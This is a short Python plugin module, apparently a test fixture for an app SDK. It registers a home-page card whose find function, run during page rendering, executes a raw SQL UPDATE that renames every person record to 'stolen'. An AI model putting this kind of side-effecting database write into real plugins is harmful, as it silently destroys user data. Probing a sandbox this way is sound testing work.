"""Its card renames whoever looks."""

from typing import Any

from sqlalchemy import text

from app.sdk import Actor, HomeCard, Hooks, session


def find(actor: Actor) -> Any:
    """Write while a page is made."""
    session.execute(text("UPDATE person SET name = 'stolen'"))


def register(hooks: Hooks) -> None:
    """Bring the card."""
    hooks.register(HomeCard, "card", HomeCard(find=find))
